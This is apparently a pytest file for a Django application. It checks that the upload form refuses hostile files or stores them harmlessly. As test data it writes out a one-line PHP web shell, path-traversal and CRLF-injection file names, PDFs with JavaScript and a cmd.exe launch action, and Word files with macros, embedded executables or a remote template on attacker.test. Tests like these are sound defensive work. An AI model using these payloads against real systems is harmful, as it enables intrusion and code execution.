"""Hostile uploads, end to end through the materials form: each is refused with its message beside the item, or
stored in a form that cannot hurt (re-encoded, renamed after its content, stripped of metadata)."""

import io
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from applications.models import Material
from applications.services import application_create
from tests.applications.test_uploads import (
    GENERIC_REFUSAL,
    HTML_PAYLOAD,
    SVG,
    image_bytes,
    jpeg_with_gps,
    ole2_lookalike,
    pdf_bytes,
    png_declaring,
    zip_bytes,
)
from tests.applications.test_views_materials import scanned
from tests.factories import PROFILES
from tests.office import docx, relationships, word_97_document

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

ITEM = "degree_certificates"
PIXELS = "This image has more than 20 megapixels; please scan at a lower resolution (300 dpi is enough)."
CORRUPT_PDF = "This PDF cannot be read (it may be damaged or incomplete); please save or scan it again."
ACTIVE_PDF = (
    "This PDF contains scripts, automatic actions or attached files, which are not accepted; "
    "print it to a new PDF (or scan the paper document) and upload that."
)
MACROS = "Word documents with macros are not accepted; please save it as DOCX or PDF without macros."
EMBEDDED = (
    "Word documents with embedded objects or files (other documents, programs, controls) are not accepted; "
    "please save it as PDF and upload that."
)
CORRUPT_WORD = "This Word document cannot be read (it may be damaged or incomplete); please save it again."


def pdf_with(change: Callable[[PdfWriter], None]) -> bytes:
    """A one-page PDF changed by `change` before it is written."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def javascript(code: str = "app.alert(1)") -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)})


def open_action_javascript(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(javascript())


def link_launching_a_program(writer: PdfWriter) -> None:
    launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(99), NumberObject(99)]),
            NameObject("/A"): launch,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def page_opening_action(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): javascript()})


def attached_program(writer: PdfWriter) -> None:
    writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\x00" * 200)


def looping_page_tree(writer: PdfWriter) -> None:
    pages = writer._root_object["/Pages"]
    pages[NameObject("/Kids")].append(pages.indirect_reference)
    pages[NameObject("/Count")] = NumberObject(2)


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand, object by object, with its cross-reference table."""
    content = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(content))
        content += b"%d 0 obj " % number + body + b" endobj\n"
    xref = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return content + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)


# Names escaped as #xx are read by the parser as the names they spell: a text search would miss them.
ESCAPED_NAMES_PDF = raw_pdf(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
)


def jpeg_zip_polyglot() -> bytes:
    return image_bytes() + zip_bytes({"evil.html": HTML_PAYLOAD})


def stored_and_downloaded(client, material: Material) -> tuple[bytes, object]:
    with default_storage.open(material.file.name, "rb") as stored:
        content = stored.read()
    response = client.get(reverse("applications:material_download", kwargs={"pk": material.pk}))
    b"".join(response.streaming_content)
    return content, response


def no_gps(client, material: Material) -> None:
    content, _response = stored_and_downloaded(client, material)
    with Image.open(io.BytesIO(content)) as image:
        assert dict(image.getexif()) == {}
    assert b"SecretCameraMaker" not in content


def no_zip(client, material: Material) -> None:
    content, _response = stored_and_downloaded(client, material)
    assert (b"PK\x03\x04" in content, b"<script>" in content) == (False, False)


def named(shown: str, content_type: str, disposition: str) -> Callable:
    def check(client, material: Material) -> None:
        _content, response = stored_and_downloaded(client, material)
        assert material.original_name == shown
        assert material.file.name.endswith("." + shown.rsplit(".", 1)[-1])
        assert (response["Content-Type"], response["Content-Disposition"]) == (content_type, disposition)

    return check


@dataclass(frozen=True)
class Hostile:
    name: str
    content: Callable[[], bytes]
    refused: str = ""
    stored: Callable | None = None


CASES = {
    "php-named-jpg": Hostile("shell.php.jpg", lambda: b"<?php system($_GET['c']); ?>", refused=GENERIC_REFUSAL),
    "html-named-jpg": Hostile("page.jpg", lambda: HTML_PAYLOAD, refused=GENERIC_REFUSAL),
    "svg-named-jpg": Hostile(
        "logo.jpg", lambda: SVG, refused="SVG images are not accepted; please upload JPG, PNG, GIF or PDF."
    ),
    "png-30000x30000": Hostile("bomb.png", lambda: png_declaring(30000, 30000), refused=PIXELS),
    "png-7000x7000": Hostile("big.png", lambda: png_declaring(7000, 7000), refused=PIXELS),
    "over-the-size-limit": Hostile(
        "huge.pdf",
        lambda: b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024),
        refused="The file is larger than 10 MB; please upload a smaller scan.",
    ),
    "dot-dot-name": Hostile(
        "../../etc/passwd.pdf",
        pdf_bytes,
        stored=named("passwd.pdf", "application/pdf", 'attachment; filename="passwd.pdf"'),
    ),
    "crlf-name": Hostile(
        "scan\r\nContent-Type: text/html\r\n.pdf",
        pdf_bytes,
        # The line breaks end the part's header early: what is left is a name without them, quoted when sent back.
        stored=named('"html.pdf', "application/pdf", 'attachment; filename="\\"html.pdf"'),
    ),
    "exif-gps": Hostile("photo.jpg", jpeg_with_gps, stored=no_gps),
    "jpeg-zip-polyglot": Hostile("scan.jpg", jpeg_zip_polyglot, stored=no_zip),
    "looping-pdf": Hostile("loop.pdf", lambda: pdf_with(looping_page_tree), refused=CORRUPT_PDF),
    "pdf-with-html-named-hta": Hostile(
        "x.hta",
        lambda: pdf_bytes() + HTML_PAYLOAD,
        stored=named("x.pdf", "application/pdf", 'attachment; filename="x.pdf"'),
    ),
    "pdf-open-action-javascript": Hostile("a.pdf", lambda: pdf_with(open_action_javascript), refused=ACTIVE_PDF),
    "pdf-escaped-javascript-names": Hostile("b.pdf", lambda: ESCAPED_NAMES_PDF, refused=ACTIVE_PDF),
    "pdf-launch-link": Hostile("c.pdf", lambda: pdf_with(link_launching_a_program), refused=ACTIVE_PDF),
    "pdf-page-additional-action": Hostile("d.pdf", lambda: pdf_with(page_opening_action), refused=ACTIVE_PDF),
    "pdf-embedded-file": Hostile("e.pdf", lambda: pdf_with(attached_program), refused=ACTIVE_PDF),
    "docx-with-payload-exe": Hostile("cv.docx", lambda: docx({"payload/evil.exe": b"MZ\x90\x00"}), refused=EMBEDDED),
    "docx-with-macros": Hostile("cv.docx", lambda: docx({"word/vbaProject.bin": b"\x00" * 64}), refused=MACROS),
    "docx-with-ole-object": Hostile(
        "cv.docx", lambda: docx({"word/embeddings/oleObject1.bin": word_97_document()}), refused=EMBEDDED
    ),
    "docx-with-activex": Hostile("cv.docx", lambda: docx({"word/activeX/activeX1.xml": b"<ax/>"}), refused=EMBEDDED),
    "docx-remote-template": Hostile(
        "cv.docx",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": relationships(
                    ("attachedTemplate", "http://attacker.test/t.dotm", "External")
                ),
                "word/settings.xml": b'<?xml version="1.0"?><w:settings xmlns:w="urn:w"/>',
            }
        ),
        refused=EMBEDDED,
    ),
    "doc-with-macros": Hostile(
        "cv.doc", lambda: word_97_document({"Macros": {"VBA": {"dir": b"\x01"}}}), refused=MACROS
    ),
    "doc-with-embedded-package": Hostile(
        "cv.doc",
        lambda: word_97_document({"ObjectPool": {"_1234": {"\x01Ole10Native": b"MZ\x90\x00"}}}),
        refused=EMBEDDED,
    ),
    "doc-lookalike": Hostile("cv.doc", lambda: ole2_lookalike("Root Entry", "WordDocument"), refused=CORRUPT_WORD),
}


@pytest.fixture
def draft(applicant):
    return application_create(applicant=applicant, profile=PROFILES["gold"])


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_hostile_upload_is_refused_or_stored_harmless(client, draft, case):
    upload = SimpleUploadedFile(case.name, case.content(), content_type="image/jpeg")
    shown = upload.name  # the name as Django received it, as the message shows it

    response = client.post(
        reverse("applications:edit", kwargs={"pk": draft.pk, "step": "materials"}),
        scanned({f"files-{ITEM}": upload}),
    )

    if case.refused:
        assert response.status_code == 200
        assert response.context["form"].errors[f"files-{ITEM}"] == [f"{shown}: {case.refused}"]
        assert Material.objects.filter(application=draft).count() == 0
    else:
        assert response.status_code == 302
        case.stored(client, Material.objects.get(application=draft))
